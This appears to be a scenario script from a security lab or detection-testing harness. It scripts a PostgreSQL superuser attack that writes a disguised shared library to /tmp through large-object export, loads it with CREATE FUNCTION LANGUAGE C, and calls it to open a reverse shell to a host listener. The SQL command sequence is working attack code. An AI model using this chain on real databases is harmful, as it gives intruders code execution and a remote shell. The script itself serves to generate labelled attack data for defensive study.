# A database's superuser loads code of its own into the server (sqlmap's and Metasploit's way from a database login to
# a shell): the bytes of a shared library become a large object (`lo_from_bytea`), `lo_export` has the server process
# write it to /tmp, `CREATE FUNCTION … LANGUAGE C` makes the server load it, and calling the function runs its code
# inside the server process — here a reverse shell to a listener on the host: a fork connects, puts the connection on
# its standard streams and runs /bin/sh (T1078, T1129, T1059.004). The library is tools/pgudf.c, built on the host.
IMAGE=db
normal() { db_traffic "$WEB_PORT" 200; }
attack() {
  local hex
  # The listener waits 15 s for its connection: started now, not before the normal phase.
  shell_listener
  hex=$(od -An -v -tx1 "$(pg_udf)" | tr -d ' \n')
  db_sql "$WEB_PORT" "SELECT lo_from_bytea(43117, decode('$hex', 'hex'))" "SELECT lo_export(43117, '/tmp/.pg_stat_cache.so')" \
    "CREATE FUNCTION pg_stat_cache(int) RETURNS int AS '/tmp/.pg_stat_cache.so', 'lab_udf' LANGUAGE C STRICT" \
    "SELECT pg_stat_cache($LISTEN_PORT)" > "$LAB_DIR/load-library.$$.out"
  sleep 2
}
host_cleanup() { listener_stop; }
